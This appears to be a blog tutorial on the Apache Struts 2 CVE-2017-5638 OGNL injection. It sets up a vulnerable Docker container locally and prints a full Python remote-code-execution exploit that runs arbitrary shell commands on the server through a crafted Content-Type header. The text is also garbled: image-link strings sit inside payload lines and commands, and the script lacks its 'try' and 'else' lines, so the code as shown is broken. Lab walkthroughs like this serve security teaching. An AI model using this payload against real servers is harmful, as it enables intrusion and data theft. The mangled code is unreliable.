Apache Struts 2 CVE-2017-5638 Docker Container

In line with the recent Apache Log4j CVE-2021-44832, and since we’re exploring Docker containers, I think its the perfect time to explore another Apache vulnerability. In this post, we’ll be look at Apache Struts 2.


Apache Struts is a popular framework for developing web applications. Like Log4j, it’s written in Java. In 2017, a vulnerability was discovered. An attacker could perform remote code execution on a victim server. One of the victims, Equifax, suffered a catastrophic data breach.

The vulnerable code was in the Jakarta Multipart parser. If the Content-Type value isn’t valid, that is, it does not match an expectedvalid type, an exception is thrown that is then used to display an error message to a user. In this case, we can set the Content-Type to an OGNL expression such as:

Content-Type: ${(#_='multipart/form-data')

The vulnerability occurs because the Content-Type is not escaped after the error, and is then used by LocalizedTextUtil.findText function to build the error message. This function will interpret the supplied message, and anything within ${…} will be treated as an Object Graph Navigation Library (OGNL) expression and evaluated as such. The attacker can leverage these conditions to execute OGNL expressions that in turn execute system commands. This is almost similar to Log4j where commands and arbitrary code could be executed directly from the logger.

Getting the Container & Exploit

The vulnerable version of Struts 2 is available as a docker container here: Apache Struts 2 CVE-2017-5638 Container. We will deploy the container and run the exploit to test it out. Thiswill show us how third party frameworks, like Apache Struts 2, can be exploited even when running in a container environment, such as Docker.

  1. Ensure you have an account at Docker Hub

  2. Log into Docker Hub from your local Docker instance with docker login

  3. Run the following commands to pull and run the vulnerable container:

    docker pull piesecurity/apache-struts2-cve-2017-5638
    docker run -d -p 9080:8080 --rm --name apache piesecurity/apache-struts2-cve-2017-5638
  4. If you don’t have Python, install it

  5. Create a Python script called exploit.py and copy/paste the following code into it:

    import http.client
    import urllib.error
    import urllib.parse
    import urllib.request
    def exploit(url, cmd):
        payload = "%{(#_='multipart/form-data')."
        payload += "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
        payload += "(#_memberAccess?"
        payload += "(#_memberAccess=#dm):"
        payload += "((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
        payload +="(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
        payload += "(#ognlUtil.getExcludedPackageNames().clear())."
        payload += "(#ognlUtil.getExcludedClasses().clear())."
        payload +="(#context.setMemberAccess(#dm))))."
        payload += "(#cmd='%s')." % cmd
        payload += "(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
        payload += "(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
        payload += "(#p=new java.lang.ProcessBuilder(#cmds))."
        payload += "(#p.redirectErrorStream(true)).(#process=#p.start())."
        payload += "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
        payload += "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros))."
        payload += "(#ros.flush())}"
            headers = {'User-Agent': 'Mozilla/5.0', 'Content-Type': payload}
            request = urllib.request.Request(url, headers=headers)
            page = urllib.request.urlopen(request).read()
        except http.client.IncompleteRead as e:
            page = e.partial
        return page
    if __name__ == '__main__':
        import sys
        if len(sys.argv) != 3:
            print("[*] str.py <url> <cmd>")
            print('[*]CVE: 2017-5638 - Apache Struts2 S2-045')
            url = sys.argv[1]
            cmd = sys.argv[2]
            print(("[*] cmd: %s\n" % cmd))
            exploit(url, cmd)


  1. Run docker ps from the terminal to check that the container is running.

  2. Once the struts container is running, go to localhost:9080/ - you should see a welcome screen for Struts2 Showcase.

  3. Begin testing the RCE. You can now issue commands to the container outside of its shell with the following syntax:

    python exploit.pyhttp://localhost:9080/ "whoami"
  4. You’ll seeb’root\n' printed to the terminal if everything worked correctly. Replace whoami to experiment with other commands as if you were executing commands fromwithin the container.

    • pwd
    • ls
    • ls -la
  5. When you’re finished, you can stop the docker with docker stop apache


Distrust, verify, and stay suspicious.

I hope this demonstrates the importance of security when dealing with Docker containers and third party programs. Although in today’s world, you probably shouldn’t build everything from scratch (as you’ll probably introduce more vulnerabilities if you don’t know what you’re doing) you should at least be aware of the risks when using any third party framework, library, or program - even if it is open source and audited. Always stay up to date on the latest security patches for your critical systems.

References / Additional Info

Docker for Developers

Apache Struts 2

Apache Struts 2 CVE-2017-5638 Container

Apache Commons OGNL - Object Graph Navigation Library

Exploit Demo for CVE-2017-5638

Equifax Data Breach

CVE-2017-5638: The Apache Struts vulnerabilityexplained

CVE-2021-44228 - Log4j - MINECRAFT VULNERABLE!